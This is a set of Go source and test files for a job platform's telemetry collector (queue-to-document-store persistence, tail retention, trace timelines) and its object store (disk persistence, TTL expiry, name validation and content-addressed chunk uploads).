	// Age everything past the horizon; the next tick reaps both docs.
	// (Whether the loop's pending timer fires during this advance or
	// after the next one depends on goroutine timing, so poll the store
	// rather than count ticks.)
	clk.Advance(2 * time.Hour)
	waitTimers(t, clk, 1)
	clk.Advance(time.Minute)
	deadline := time.Now().Add(5 * time.Second)
	for {
		_, errT := db.FindOne(core.CollTraces, docstore.M{"trace_id": "tr1"})
		_, errE := db.FindOne(core.CollEvents, docstore.M{"msg": "hello"})
		if errT != nil && errE != nil {
			break // both reaped
		}
		if time.Now().After(deadline) {
			t.Fatalf("expired docs survived the retention loop (trace err %v, event err %v)", errT, errE)
		}
		time.Sleep(time.Millisecond)
	}
	if v, _ := reg.Value("rai_collector_retention_deleted_total", telemetry.L("coll", core.CollTraces)); v != 1 {
		t.Errorf("deleted{traces} = %v, want 1", v)
	}

	cancel()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("retention loop did not stop")
	}
}

// TestRunRetentionDisabled returns immediately when Retain is zero.
func TestRunRetentionDisabled(t *testing.T) {
	c := &Collector{DB: docstore.New()}
	done := make(chan struct{})
	go func() {
		c.RunRetention(context.Background(), RetentionConfig{})
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("zero-retain loop did not return")
	}
}

func waitTimers(t *testing.T, clk *clock.Virtual, n int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for clk.PendingTimers() < n {
		if time.Now().After(deadline) {
			t.Fatalf("never saw %d pending timers", n)
		}
		time.Sleep(time.Millisecond)
	}
}

func waitSweeps(t *testing.T, reg *telemetry.Registry, n float64) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if v, _ := reg.Value("rai_collector_retention_sweeps_total"); v >= n {
			return
		}
		if time.Now().After(deadline) {
			v, _ := reg.Value("rai_collector_retention_sweeps_total")
			t.Fatalf("sweeps = %v, want >= %v", v, n)
		}
		time.Sleep(time.Millisecond)
	}
}
