// Package collector is the persistence half of the centralized
// observability pipeline: it subscribes to the rai.telemetry route,
// decodes the span/event batches every daemon's exporter publishes, and
// writes them into the document store — dogfooding the same database
// that holds job records. The traces and events collections are what
// `raiadmin trace` and `raiadmin logs` query.
package collector

import (
	"context"
	"fmt"
	"time"

	"rai/internal/clock"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/telemetry"
)

// Collector drains telemetry batches from the queue into the store.
type Collector struct {
	Queue core.Queue
	DB    docstore.Store
	// Telemetry, when set, counts persisted records and decode failures.
	Telemetry *telemetry.Registry
	// Log, when set, reports collector lifecycle and decode errors.
	Log *telemetry.Logger
	// Prefetch is the subscription window (default 64).
	Prefetch int
	// Tail configures tail-based retention. The zero value persists every
	// span immediately; a nonzero Linger buffers each trace and keeps
	// error/slow traces at 100% while downsampling the boring bulk.
	Tail TailConfig
	// Clock is the time source for tail linger windows and the retention
	// sweep (default real time; virtual in tests).
	Clock clock.Clock
}

func (c *Collector) clock() clock.Clock {
	if c.Clock != nil {
		return c.Clock
	}
	return clock.Real{}
}

// Run subscribes on core.TelemetryTopic/TelemetryChannel and persists
// batches until ctx is done. The shared channel means running several
// collector replicas divides the stream, not duplicates it; batches are
// acked only after persistence (or tail buffering), and span writes are
// idempotent upserts keyed by span_id, so at-least-once redelivery
// cannot duplicate spans.
//
// With Tail.Linger > 0 spans detour through the tail buffer and persist
// only when their trace survives the retention decision; events always
// persist immediately (they are bounded by the retention sweep instead).
// A batch is acked once buffered — a crash loses at most one linger
// window of undecided traces, which is the price of deciding with the
// whole trace in hand.
func (c *Collector) Run(ctx context.Context) error {
	prefetch := c.Prefetch
	if prefetch <= 0 {
		prefetch = 64
	}
	sub, err := c.Queue.Subscribe(ctx, core.TelemetryTopic, core.TelemetryChannel, prefetch)
	if err != nil {
		return fmt.Errorf("collector: subscribing: %w", err)
	}
	defer sub.Close()
	c.Log.Info(ctx, "collector started")
	batches := c.Telemetry.Counter("rai_collector_batches_total", "telemetry batches persisted")
	spans := c.Telemetry.Counter("rai_collector_spans_total", "spans persisted")
	events := c.Telemetry.Counter("rai_collector_events_total", "events persisted")
	malformed := c.Telemetry.Counter("rai_collector_malformed_total", "batches that failed to decode")

	var tail *tailBuffer
	var flush <-chan time.Time
	clk := c.clock()
	flushEvery := c.Tail.Linger / 4
	if flushEvery < time.Millisecond {
		flushEvery = time.Millisecond
	}
	if c.Tail.Linger > 0 {
		tail = newTailBuffer(c.Tail, clk, c.Telemetry)
		flush = clk.After(flushEvery)
	}
	// persistKept writes tail survivors. Shutdown uses a detached context
	// so the final flush is not cut off by the very cancellation that
	// triggered it.
	persistKept := func(ctx context.Context, recs []spanRec) {
		for _, r := range recs {
			if err := c.persistSpan(ctx, r.service, r.data); err != nil {
				c.Log.Warn(ctx, "persisting span failed",
					telemetry.L("span_id", r.data.SpanID), telemetry.L("error", err.Error()))
				continue
			}
			spans.Add(1)
		}
	}
	drain := func() {
		if tail != nil {
			persistKept(context.WithoutCancel(ctx), tail.evict(true))
		}
	}

	for {
		select {
		case m, ok := <-sub.C():
			if !ok {
				drain()
				return nil
			}
			b, err := telemetry.DecodeBatch(m.Body)
			if err != nil {
				// A malformed batch will never decode; ack it away.
				malformed.Inc()
				c.Log.Warn(ctx, "malformed telemetry batch", telemetry.L("error", err.Error()))
				_ = m.Ack()
				continue
			}
			if tail == nil {
				ns, ne := c.Persist(ctx, b)
				spans.Add(float64(ns))
				events.Add(float64(ne))
				batches.Inc()
				_ = m.Ack()
				continue
			}
			for _, s := range b.Spans {
				tail.add(b.Service, s)
			}
			ne := c.persistEvents(ctx, b)
			events.Add(float64(ne))
			batches.Inc()
			_ = m.Ack()
		case <-flush:
			persistKept(ctx, tail.evict(false))
			flush = clk.After(flushEvery)
		case <-ctx.Done():
			drain()
			return nil
		}
	}
}

// Persist writes one batch into the traces and events collections and
// reports how many spans and events landed. Span documents are upserted
// by span_id (idempotent under redelivery); events are inserted.
func (c *Collector) Persist(ctx context.Context, b *Batch) (spans, events int) {
	for _, s := range b.Spans {
		if err := c.persistSpan(ctx, b.Service, s); err != nil {
			c.Log.Warn(ctx, "persisting span failed",
				telemetry.L("span_id", s.SpanID), telemetry.L("error", err.Error()))
			continue
		}
		spans++
	}
	return spans, c.persistEvents(ctx, b)
}

// persistEvents writes only the batch's events (the tail-buffered path,
// where spans wait on the retention decision but events land at once).
func (c *Collector) persistEvents(ctx context.Context, b *Batch) (events int) {
	for _, e := range b.Events {
		if err := c.persistEvent(ctx, b.Service, e); err != nil {
			c.Log.Warn(ctx, "persisting event failed", telemetry.L("error", err.Error()))
			continue
		}
		events++
	}
	return events
}

// Batch aliases the telemetry wire type so callers need not import both
// packages.
type Batch = telemetry.Batch

func (c *Collector) persistSpan(ctx context.Context, service string, s telemetry.SpanData) error {
	doc := docstore.M{
		"trace_id":   s.TraceID,
		"span_id":    s.SpanID,
		"parent_id":  s.ParentID,
		"name":       s.Name,
		"service":    service,
		"start":      s.Start.UTC().Format(time.RFC3339Nano),
		"end":        s.End.UTC().Format(time.RFC3339Nano),
		"start_s":    unixSeconds(s.Start),
		"duration_s": s.Duration().Seconds(),
		"job_id":     s.Attrs["job_id"],
	}
	if len(s.Attrs) > 0 {
		attrs := docstore.M{}
		for k, v := range s.Attrs {
			attrs[k] = v
		}
		doc["attrs"] = attrs
	}
	// Composite key: span IDs are only unique per tracer instance, so a
	// bare span_id filter could splice unrelated traces together.
	_, err := c.upsert(ctx, core.CollTraces,
		docstore.M{"trace_id": s.TraceID, "span_id": s.SpanID}, docstore.M{"$set": doc})
	return err
}

func (c *Collector) persistEvent(ctx context.Context, service string, e telemetry.Event) error {
	if e.Service == "" {
		e.Service = service
	}
	doc := docstore.M{
		"ts":       e.Time.UTC().Format(time.RFC3339Nano),
		"ts_s":     unixSeconds(e.Time),
		"level":    e.Level,
		"service":  e.Service,
		"msg":      e.Msg,
		"trace_id": e.TraceID,
		"span_id":  e.SpanID,
		"job_id":   e.JobID,
	}
	if len(e.Attrs) > 0 {
		attrs := docstore.M{}
		for k, v := range e.Attrs {
			attrs[k] = v
		}
		doc["attrs"] = attrs
	}
	return c.insert(ctx, core.CollEvents, doc)
}

// unixSeconds renders t as float seconds for range filters and sorting
// (the RFC3339Nano strings keep the exact timestamps but do not sort
// lexicographically once trailing zeros are trimmed).
func unixSeconds(t time.Time) float64 {
	return float64(t.UnixNano()) / float64(time.Second)
}

// upsert/insert route through the store's context-aware variants when
// it has them (the HTTP client), so a remote docstore sees deadlines.
func (c *Collector) upsert(ctx context.Context, coll string, filter, update docstore.M) (string, error) {
	type ctxUpserter interface {
		UpsertContext(ctx context.Context, coll string, filter, update docstore.M) (string, error)
	}
	if u, ok := c.DB.(ctxUpserter); ok {
		return u.UpsertContext(ctx, coll, filter, update)
	}
	return c.DB.Upsert(coll, filter, update)
}

func (c *Collector) insert(ctx context.Context, coll string, doc docstore.M) error {
	type ctxInserter interface {
		InsertContext(ctx context.Context, coll string, doc any) (string, error)
	}
	if i, ok := c.DB.(ctxInserter); ok {
		_, err := i.InsertContext(ctx, coll, doc)
		return err
	}
	_, err := c.DB.Insert(coll, doc)
	return err
}
