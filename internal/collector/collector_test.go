package collector

import (
	"context"
	"strings"
	"testing"
	"time"

	"rai/internal/broker"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/telemetry"
)

var t0 = time.Date(2016, 11, 28, 9, 0, 0, 0, time.UTC)

// span builds a SpanData with offsets from t0.
func span(traceID, spanID, parentID, name string, startOff, endOff time.Duration, attrs map[string]string) telemetry.SpanData {
	return telemetry.SpanData{
		TraceID: traceID, SpanID: spanID, ParentID: parentID, Name: name,
		Start: t0.Add(startOff), End: t0.Add(endOff), Attrs: attrs,
	}
}

func TestCollectorRunPersistsBatches(t *testing.T) {
	b := broker.New()
	defer b.Close()
	queue := core.BrokerQueue{B: b}
	db := docstore.New()
	reg := telemetry.NewRegistry()
	c := &Collector{Queue: queue, DB: db, Telemetry: reg}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() { done <- c.Run(ctx) }()

	batch := &Batch{
		Service: "raiworker",
		Spans: []telemetry.SpanData{
			span("tr1", "s1", "", "job", 0, 10*time.Second, map[string]string{"job_id": "job-1"}),
		},
		Events: []telemetry.Event{{
			Time: t0.Add(time.Second), Level: "info", Msg: "job dequeued",
			TraceID: "tr1", SpanID: "s1", JobID: "job-1",
		}},
	}
	// Garbage first: the collector must count it and keep consuming.
	if err := queue.Publish(ctx, core.TelemetryTopic, []byte("not json")); err != nil {
		t.Fatal(err)
	}
	if err := queue.Publish(ctx, core.TelemetryTopic, batch.Encode()); err != nil {
		t.Fatal(err)
	}

	deadline := time.Now().Add(5 * time.Second)
	for {
		if doc, err := db.FindOne(core.CollTraces, docstore.M{"span_id": "s1"}); err == nil {
			if doc["trace_id"] != "tr1" || doc["job_id"] != "job-1" || doc["service"] != "raiworker" {
				t.Fatalf("span doc = %v", doc)
			}
			if d, _ := doc["duration_s"].(float64); d != 10 {
				t.Fatalf("duration_s = %v, want 10", doc["duration_s"])
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("span never persisted")
		}
		time.Sleep(time.Millisecond)
	}
	evs, err := EventsByJob(db, "job-1", 0)
	if err != nil || len(evs) != 1 || evs[0].Msg != "job dequeued" {
		t.Fatalf("events = %v (err %v)", evs, err)
	}
	// The event inherits the batch's service when it carries none.
	if evs[0].Service != "raiworker" {
		t.Errorf("event service = %q, want raiworker", evs[0].Service)
	}
	if got, ok := reg.Value("rai_collector_malformed_total"); !ok || got != 1 {
		t.Errorf("malformed counter = %v (ok=%v), want 1", got, ok)
	}
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Run: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("collector did not stop on ctx cancel")
	}
}

// TestPersistIdempotentSpans mimics at-least-once redelivery: the same
// batch persisted twice must not duplicate span documents (upsert by
// span_id).
func TestPersistIdempotentSpans(t *testing.T) {
	db := docstore.New()
	c := &Collector{DB: db}
	batch := &Batch{
		Service: "rai",
		Spans: []telemetry.SpanData{
			span("tr1", "s1", "", "job", 0, time.Second, map[string]string{"job_id": "j1"}),
			span("tr1", "s2", "s1", "upload", 0, time.Second/2, nil),
		},
	}
	ctx := context.Background()
	for i := 0; i < 2; i++ {
		if ns, _ := c.Persist(ctx, batch); ns != 2 {
			t.Fatalf("persist round %d: %d spans, want 2", i, ns)
		}
	}
	docs, err := db.Find(core.CollTraces, docstore.M{"trace_id": "tr1"}, docstore.FindOpts{})
	if err != nil {
		t.Fatal(err)
	}
	if len(docs) != 2 {
		t.Fatalf("redelivered batch duplicated spans: %d docs, want 2", len(docs))
	}
}

func TestTraceQueriesAndPhases(t *testing.T) {
	db := docstore.New()
	c := &Collector{DB: db}
	ctx := context.Background()
	// A miniature but fully connected job trace: client, worker, and one
	// storage hop each, with a 2 s gap between enqueue end and dequeue.
	c.Persist(ctx, &Batch{Service: "rai", Spans: []telemetry.SpanData{
		span("tr1", "a", "", "job", 0, 20*time.Second, map[string]string{"job_id": "j1"}),
		span("tr1", "b", "a", "upload", 0, time.Second, nil),
		span("tr1", "c", "a", "enqueue", time.Second, 2*time.Second, nil),
	}})
	c.Persist(ctx, &Batch{Service: "raiworker", Spans: []telemetry.SpanData{
		span("tr1", "d", "c", "dequeue", 4*time.Second, 19*time.Second, map[string]string{"job_id": "j1"}),
		span("tr1", "e", "d", "download", 4*time.Second, 5*time.Second, nil),
		span("tr1", "f", "d", "build", 5*time.Second, 10*time.Second, nil),
		span("tr1", "g", "d", "run", 10*time.Second, 18*time.Second, nil),
	}})
	c.Persist(ctx, &Batch{Service: "raifs", Spans: []telemetry.SpanData{
		span("tr1", "h", "b", "objstore put", 0, time.Second/2, map[string]string{"job_id": "j1"}),
	}})

	spans, err := TraceByJob(db, "j1")
	if err != nil {
		t.Fatal(err)
	}
	if len(spans) != 8 {
		t.Fatalf("loaded %d spans, want 8", len(spans))
	}
	if spans[0].Name != "job" {
		t.Errorf("first span = %q, want the root", spans[0].Name)
	}

	phases := Phases(spans)
	want := map[string]time.Duration{
		"upload": time.Second, "enqueue": time.Second, "queue delay": 2 * time.Second,
		"download": time.Second, "build": 5 * time.Second, "run": 8 * time.Second,
		"total": 20 * time.Second,
	}
	got := map[string]time.Duration{}
	for _, p := range phases {
		got[p.Name] = p.Duration
	}
	for name, d := range want {
		if got[name] != d {
			t.Errorf("phase %s = %v, want %v", name, got[name], d)
		}
	}

	out := FormatTimeline(spans)
	for _, frag := range []string{"job", "objstore put", "queue delay", "[raiworker]"} {
		if !strings.Contains(out, frag) {
			t.Errorf("timeline missing %q:\n%s", frag, out)
		}
	}
	if strings.Contains(out, "not fully connected") {
		t.Errorf("connected trace flagged as disconnected:\n%s", out)
	}

	// Dropping the dequeue span orphans the worker subtree: the timeline
	// must warn rather than silently render a partial trace.
	orphaned := spans[:0:0]
	for _, s := range spans {
		if s.Name != "dequeue" {
			orphaned = append(orphaned, s)
		}
	}
	if !strings.Contains(FormatTimeline(orphaned), "not fully connected") {
		t.Error("timeline with missing span did not warn")
	}
}
