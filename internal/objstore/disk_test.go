package objstore

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"rai/internal/clock"
)

func TestDiskPersistenceAcrossRestart(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	payload := bytes.Repeat([]byte("archive"), 100)
	info, err := s.Put("rai-uploads", "team1/j1/project.tar.bz2", payload, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	// Restart.
	s2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	data, info2, err := s2.Get("rai-uploads", "team1/j1/project.tar.bz2")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, payload) {
		t.Error("content changed across restart")
	}
	if info2.ETag != info.ETag || info2.TTL != time.Hour {
		t.Errorf("metadata = %+v, want %+v", info2, info)
	}
	if s2.Used() != int64(len(payload)) {
		t.Errorf("Used = %d", s2.Used())
	}
}

func TestDiskDeleteRemovesFiles(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	s.Put("b", "nested/key.bin", []byte("x"), 0)
	if err := s.Delete("b", "nested/key.bin"); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := s2.Get("b", "nested/key.bin"); !errors.Is(err, ErrNoObject) {
		t.Fatalf("deleted object resurrected: %v", err)
	}
	// No stray files remain.
	entries, _ := os.ReadDir(filepath.Join(dir, "b"))
	if len(entries) != 0 {
		t.Errorf("leftover files: %v", entries)
	}
}

func TestDiskSweepRemovesExpiredFiles(t *testing.T) {
	dir := t.TempDir()
	vc := clock.NewVirtual(time.Date(2016, 11, 1, 0, 0, 0, 0, time.UTC))
	s, err := Open(dir, WithClock(vc))
	if err != nil {
		t.Fatal(err)
	}
	s.Put("b", "short", []byte("1"), time.Hour)
	s.Put("b", "long", []byte("2"), 100*time.Hour)
	vc.Advance(2 * time.Hour)
	if n := s.Sweep(); n != 1 {
		t.Fatalf("swept %d", n)
	}
	s2, err := Open(dir, WithClock(vc))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := s2.Get("b", "short"); !errors.Is(err, ErrNoObject) {
		t.Error("expired object persisted")
	}
	if _, _, err := s2.Get("b", "long"); err != nil {
		t.Errorf("live object lost: %v", err)
	}
}

func TestDiskKeyEscaping(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	// Keys with slashes and percent signs round-trip.
	key := "team%1/sub/dir/file%2F.tar.bz2"
	if _, err := s.Put("b", key, []byte("v"), 0); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	infos, err := s2.List("b", "")
	if err != nil || len(infos) != 1 || infos[0].Key != key {
		t.Fatalf("list after restart = %+v, %v", infos, err)
	}
	// The on-disk name contains no path separators beyond the bucket.
	entries, _ := os.ReadDir(filepath.Join(dir, "b"))
	for _, e := range entries {
		if e.IsDir() {
			t.Errorf("unexpected directory %q (traversal surface)", e.Name())
		}
	}
}

func TestOpenRejectsCorruptMetadata(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "b"), 0o755)
	os.WriteFile(filepath.Join(dir, "b", "obj"), []byte("data"), 0o600)
	// Missing .meta file.
	if _, err := Open(dir); err == nil {
		t.Fatal("object without metadata accepted")
	}
	os.WriteFile(filepath.Join(dir, "b", "obj.meta"), []byte("{not json"), 0o600)
	if _, err := Open(dir); err == nil {
		t.Fatal("corrupt metadata accepted")
	}
}

func TestOpenFreshDirectory(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "does-not-exist-yet")
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Put("b", "k", []byte("x"), 0); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, "b")); err != nil {
		t.Fatalf("bucket dir not created: %v", err)
	}
}

func TestNewStaysInMemory(t *testing.T) {
	s := New()
	s.Put("b", "k", []byte("x"), 0)
	// Nothing written anywhere; just exercise the nil-diskDir paths.
	if err := s.Delete("b", "k"); err != nil {
		t.Fatal(err)
	}
}
