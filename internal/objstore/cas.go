package objstore

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"

	"rai/internal/cas"
	"rai/internal/netx"
	"rai/internal/telemetry"
)

// Delta resubmission endpoints (DESIGN.md §16). The negotiation is one
// round trip:
//
//	POST /cas/negotiate   body = encoded manifest
//	                      → {"missing":[hash...]}   (chunks the server lacks)
//	POST /cas/chunks      body = frames: "<hash> <size>\n" + raw bytes
//	                      → {"stored":n,"bytes":b}
//
// Present chunks get their TTL refreshed during negotiation, so a chunk
// shared by active submissions never expires under them; the sweep that
// ages out rai-uploads ages rai-cas the same way. Both endpoints are
// auth-gated exactly like /o/ — manifests reveal tree shape, and chunk
// existence is an oracle, so neither is anonymous.

// casNegotiateResponse is the body of a successful negotiation.
type casNegotiateResponse struct {
	Missing []string `json:"missing"`
}

// casChunksResponse acknowledges a chunk upload stream.
type casChunksResponse struct {
	Stored int   `json:"stored"`
	Bytes  int64 `json:"bytes"`
}

// casOp labels /cas/ requests for the shared request metrics.
func casOp(r *http.Request) string {
	if strings.HasSuffix(r.URL.Path, "/negotiate") {
		return "cas-negotiate"
	}
	return "cas-chunks"
}

// handleCASNegotiate answers a manifest with the chunk hashes the store
// is missing, refreshing the TTL of every chunk it already holds.
func (h *handlerState) handleCASNegotiate(s *Store, w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(io.LimitReader(r.Body, cas.MaxManifestBytes+1))
	if err != nil {
		http.Error(w, "reading manifest: "+err.Error(), http.StatusBadRequest)
		return
	}
	if len(body) > cas.MaxManifestBytes {
		http.Error(w, "manifest too large", http.StatusRequestEntityTooLarge)
		return
	}
	m, err := cas.Decode(body)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	sizes := make(map[string]int64)
	for _, f := range m.Files {
		for _, c := range f.Chunks {
			sizes[c.Hash] = c.Size
		}
	}
	resp := casNegotiateResponse{Missing: []string{}}
	for _, hash := range m.ChunkSet() {
		key := cas.ChunkKey(hash)
		if _, err := s.Head(cas.Bucket, key); err == nil {
			// Refresh last-use so a chunk shared across submissions
			// outlives the TTL clock of its first upload.
			_ = s.Touch(cas.Bucket, key)
			h.casHits.Inc()
			h.casSavedBytes.Add(float64(sizes[hash]))
			continue
		}
		h.casMisses.Inc()
		resp.Missing = append(resp.Missing, hash)
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(resp)
}

// handleCASChunks ingests a framed chunk stream, verifying each payload
// against its declared hash before it becomes addressable.
func (h *handlerState) handleCASChunks(s *Store, w http.ResponseWriter, r *http.Request) {
	br := bufio.NewReader(http.MaxBytesReader(w, r.Body, h.maxBytes))
	var resp casChunksResponse
	for {
		line, err := br.ReadString('\n')
		if err == io.EOF && line == "" {
			break
		}
		if err != nil {
			http.Error(w, "reading chunk frame: "+err.Error(), http.StatusBadRequest)
			return
		}
		hash, sizeStr, ok := strings.Cut(strings.TrimSuffix(line, "\n"), " ")
		size, perr := strconv.ParseInt(sizeStr, 10, 64)
		if !ok || len(hash) != 64 || perr != nil || size <= 0 || size > cas.MaxChunk {
			http.Error(w, fmt.Sprintf("bad chunk frame %q", strings.TrimSpace(line)), http.StatusBadRequest)
			return
		}
		buf := make([]byte, size)
		if _, err := io.ReadFull(br, buf); err != nil {
			http.Error(w, "short chunk payload: "+err.Error(), http.StatusBadRequest)
			return
		}
		if cas.HashHex(buf) != hash {
			http.Error(w, "chunk "+hash+" payload hashes differently", http.StatusBadRequest)
			return
		}
		if _, err := s.Put(cas.Bucket, cas.ChunkKey(hash), buf, 0); err != nil {
			writeStoreErr(w, err)
			return
		}
		h.streamIn.Add(float64(size))
		h.casStored.Inc()
		h.casStoredBytes.Add(float64(size))
		resp.Stored++
		resp.Bytes += size
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(resp)
}

// ---- client side ----

// ErrCASUnsupported reports that the server (or transport) cannot speak
// the delta protocol; callers fall back to a full upload.
var ErrCASUnsupported = errors.New("objstore: server does not support delta submission")

// casSupported memoizes the capability probe: one /caps round trip per
// client, then every submit reuses the verdict. A failed probe is not
// cached, so a transient error does not pin the client to full uploads.
func (c *Client) casSupported(ctx context.Context) (bool, error) {
	c.casMu.Lock()
	defer c.casMu.Unlock()
	if c.casProbe != nil {
		return *c.casProbe, nil
	}
	caps, err := c.Caps(ctx)
	if err != nil {
		return false, err
	}
	v := caps.CAS
	c.casProbe = &v
	return v, nil
}

// MissingChunks negotiates a manifest: the returned hashes are the
// chunks the server does not yet hold. Implements core's delta port;
// returns ErrCASUnsupported against servers without the capability.
func (c *Client) MissingChunks(ctx context.Context, m *cas.Manifest) ([]string, error) {
	if ok, err := c.casSupported(ctx); err != nil {
		return nil, err
	} else if !ok {
		return nil, ErrCASUnsupported
	}
	enc := m.Encode()
	var resp casNegotiateResponse
	err := c.roundTrip(ctx, "cas-negotiate", http.StatusOK, func(ctx context.Context) (*http.Request, error) {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.BaseURL+"/cas/negotiate", bytes.NewReader(enc))
		if err != nil {
			return nil, err
		}
		req.ContentLength = int64(len(enc))
		return req, nil
	}, func(r *http.Response) error {
		resp = casNegotiateResponse{}
		return json.NewDecoder(r.Body).Decode(&resp)
	})
	if err != nil {
		return nil, err
	}
	return resp.Missing, nil
}

// PutChunks streams the named chunks (fetched from src as the stream
// advances, so nothing is pinned in memory) and returns the payload
// bytes that went over the wire. Each retry attempt rebuilds the stream
// from src, so the full retry policy applies.
func (c *Client) PutChunks(ctx context.Context, hashes []string, src cas.Source) (int64, error) {
	if len(hashes) == 0 {
		return 0, nil
	}
	var resp casChunksResponse
	err := c.roundTrip(ctx, "cas-chunks", http.StatusOK, func(ctx context.Context) (*http.Request, error) {
		return http.NewRequestWithContext(ctx, http.MethodPost, c.BaseURL+"/cas/chunks", io.NopCloser(&chunkStream{src: src, hashes: hashes}))
	}, func(r *http.Response) error {
		resp = casChunksResponse{}
		return json.NewDecoder(r.Body).Decode(&resp)
	})
	if err != nil {
		return 0, err
	}
	return resp.Bytes, nil
}

// chunkStream frames chunks lazily: each Read pulls at most one chunk
// from the source, so memory stays O(MaxChunk) however large the tree.
type chunkStream struct {
	src    cas.Source
	hashes []string
	i      int
	buf    bytes.Buffer
}

func (cs *chunkStream) Read(p []byte) (int, error) {
	for cs.buf.Len() == 0 {
		if cs.i >= len(cs.hashes) {
			return 0, io.EOF
		}
		hash := cs.hashes[cs.i]
		cs.i++
		data, err := cs.src.Chunk(hash)
		if err != nil {
			// The tree changed under the upload; a retry would rebuild the
			// stream and fail identically, so mark it permanent.
			return 0, netx.Permanent(err)
		}
		fmt.Fprintf(&cs.buf, "%s %d\n", hash, len(data))
		cs.buf.Write(data)
	}
	return cs.buf.Read(p)
}

// registerCASMetrics wires the rai_cas_* counters; absent telemetry they
// stay nil-safe no-ops like the rest of the handler counters.
func (h *handlerState) registerCASMetrics(reg *telemetry.Registry) {
	h.casHits = reg.Counter("rai_cas_chunk_hits_total", "negotiated chunks already present (deduplicated)")
	h.casMisses = reg.Counter("rai_cas_chunk_misses_total", "negotiated chunks the client had to upload")
	h.casSavedBytes = reg.Counter("rai_cas_saved_bytes_total", "upload bytes avoided by chunk reuse")
	h.casStored = reg.Counter("rai_cas_chunks_stored_total", "chunks ingested into the store")
	h.casStoredBytes = reg.Counter("rai_cas_stored_bytes_total", "chunk payload bytes ingested into the store")
}
