package objstore

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"rai/internal/clock"
)

var t0 = time.Date(2016, 11, 1, 0, 0, 0, 0, time.UTC)

func TestPutGetRoundTrip(t *testing.T) {
	s := New()
	info, err := s.Put("uploads", "team1/project.tar.bz2", []byte("archive-bytes"), 0)
	if err != nil {
		t.Fatal(err)
	}
	if info.Size != 13 || info.ETag == "" {
		t.Fatalf("info = %+v", info)
	}
	data, info2, err := s.Get("uploads", "team1/project.tar.bz2")
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != "archive-bytes" || info2.ETag != info.ETag {
		t.Fatalf("get = %q, %+v", data, info2)
	}
}

func TestGetIsCopy(t *testing.T) {
	s := New()
	s.Put("b", "k", []byte("abc"), 0)
	d1, _, _ := s.Get("b", "k")
	d1[0] = 'X'
	d2, _, _ := s.Get("b", "k")
	if string(d2) != "abc" {
		t.Error("Get aliased internal storage")
	}
}

func TestMissing(t *testing.T) {
	s := New()
	if _, _, err := s.Get("none", "k"); !errors.Is(err, ErrNoBucket) {
		t.Errorf("missing bucket: %v", err)
	}
	s.Put("b", "k", nil, 0)
	if _, _, err := s.Get("b", "missing"); !errors.Is(err, ErrNoObject) {
		t.Errorf("missing key: %v", err)
	}
	if err := s.Delete("b", "missing"); !errors.Is(err, ErrNoObject) {
		t.Errorf("delete missing: %v", err)
	}
}

func TestNameValidation(t *testing.T) {
	s := New()
	bad := [][2]string{
		{"UPPER", "k"}, {"", "k"}, {"ok..but/slash", "k"},
		{"b", ""}, {"b", "/abs"}, {"b", "a//b"}, {"b", "a/../b"}, {"b", ".."},
	}
	for _, bk := range bad {
		if _, err := s.Put(bk[0], bk[1], nil, 0); !errors.Is(err, ErrBadName) {
			t.Errorf("Put(%q,%q) = %v", bk[0], bk[1], err)
		}
	}
	if _, err := s.Put("valid-bucket.1", "nested/path/file.tar.bz2", nil, 0); err != nil {
		t.Errorf("valid names rejected: %v", err)
	}
}

func TestTTLExpiryFromLastUse(t *testing.T) {
	vc := clock.NewVirtual(t0)
	s := New(WithClock(vc), WithDefaultTTL(30*24*time.Hour)) // 1 month
	s.Put("uploads", "proj", []byte("data"), 0)

	// 20 days later a worker downloads it: last-use refreshes.
	vc.Advance(20 * 24 * time.Hour)
	if _, _, err := s.Get("uploads", "proj"); err != nil {
		t.Fatal(err)
	}
	// 20 more days: only 20 days since last use, still alive.
	vc.Advance(20 * 24 * time.Hour)
	if _, _, err := s.Get("uploads", "proj"); err != nil {
		t.Fatalf("object expired %v after last use, want 30-day lifetime", 20*24*time.Hour)
	}
	// 31 days of silence: gone.
	vc.Advance(31 * 24 * time.Hour)
	if _, _, err := s.Get("uploads", "proj"); !errors.Is(err, ErrNoObject) {
